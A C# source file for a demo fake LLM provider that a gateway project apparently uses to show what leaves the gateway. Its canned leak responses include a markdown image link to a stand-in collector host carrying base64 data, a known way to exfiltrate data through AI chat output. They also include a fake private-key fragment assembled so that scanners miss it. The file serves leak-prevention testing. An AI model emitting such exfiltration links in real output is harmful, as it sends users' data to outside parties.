using System.Text.Json.Nodes;

namespace Sallyport.Host.Cli.Demo;

/// <summary>
/// A small provider on a free loopback port that speaks both dialects and keeps what it received last, so that the demonstration can look
/// at the copy that left the gateway.
/// </summary>
internal sealed class DemoUpstream : IAsyncDisposable
{
    /// <summary>Short, so that every placeholder is cut several times.</summary>
    private const int PieceLength = 3;

    private const string Link = "Here is your summary. ![chart](https://collector.example/p.png?data=Y3VzdG9tZXIgbGlzdCBvZiAyMDI2MjAyNi) Anything else?";

    // Put together here, so that nothing that looks like a key stands in the sources.
    private static readonly string Key = $"The deployment key is:\n-----BEGIN RSA {"PRIVATE"} KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n";

    private readonly WebApplication _app;
    private int _count;

    private DemoUpstream()
    {
        var builder = WebApplication.CreateEmptyBuilder(new WebApplicationOptions());
        builder.WebHost.UseKestrelCore().UseUrls("http://127.0.0.1:0");
        _app = builder.Build();
        _app.Run(ServeAsync);
    }

    /// <summary>Where it listens.</summary>
    internal string Url => _app.Urls.First();

    /// <summary>The body it received last.</summary>
    internal string LastBody { get; private set; } = "";

    /// <summary>How many requests it has received.</summary>
    internal int Count => Volatile.Read(ref _count);

    internal static async Task<DemoUpstream> StartAsync(CancellationToken cancellationToken)
    {
        var upstream = new DemoUpstream();
        await upstream._app.StartAsync(cancellationToken);
        return upstream;
    }

    public ValueTask DisposeAsync() => _app.DisposeAsync();

    private async Task ServeAsync(HttpContext http)
    {
        using var reader = new StreamReader(http.Request.Body);
        LastBody = await reader.ReadToEndAsync(http.RequestAborted);
        Interlocked.Increment(ref _count);
        var body = JsonNode.Parse(LastBody)?.AsObject() ?? [];
        await (http.Request.Path.Value switch
        {
            "/v1/chat/completions" => AnswerAsync(http, body, new OpenAiDialect()),
            "/v1/messages" => AnswerAsync(http, body, new AnthropicDialect()),
            "/v1/embeddings" => WriteJsonAsync(http, Embeddings()),
            _ => NotFoundAsync(http),
        });
    }

    private static async Task AnswerAsync(HttpContext http, JsonObject body, DemoDialect dialect)
    {
        var model = (string?)body["model"] ?? "";
        var isToolCall = model == DemoModels.Tool;
        var said = Say(model, (string?)body["messages"]?.AsArray()[^1]?["content"] ?? "");
        if ((bool?)body["stream"] != true)
        {
            await WriteJsonAsync(http, dialect.Whole(said, isToolCall));
            return;
        }

        http.Response.ContentType = "text/event-stream";
        foreach (var item in dialect.Stream(said.Chunk(PieceLength).Select(piece => new string(piece)), isToolCall))
        {
            await http.Response.WriteAsync(item, http.RequestAborted);
            await http.Response.Body.FlushAsync(http.RequestAborted);
        }
    }

    private static string Say(string model, string told) => model switch
    {
        DemoModels.Tool => new JsonObject { ["note"] = told }.ToJsonString(),
        DemoModels.LeakLink => Link,
        DemoModels.LeakKey => Key,
        _ => told,
    };

    private static JsonObject Embeddings() => new()
    {
        ["object"] = "list",
        ["model"] = DemoModels.Echo,
        ["data"] = new JsonArray(new JsonObject { ["object"] = "embedding", ["index"] = 0, ["embedding"] = new JsonArray(0.25, -0.5, 0.125) }),
        ["usage"] = new JsonObject { ["prompt_tokens"] = 8, ["total_tokens"] = 8 },
    };

    private static Task NotFoundAsync(HttpContext http)
    {
        http.Response.StatusCode = StatusCodes.Status404NotFound;
        return Task.CompletedTask;
    }

    private static Task WriteJsonAsync(HttpContext http, JsonObject body)
    {
        http.Response.ContentType = "application/json";
        return http.Response.WriteAsync(body.ToJsonString(), http.RequestAborted);
    }
}
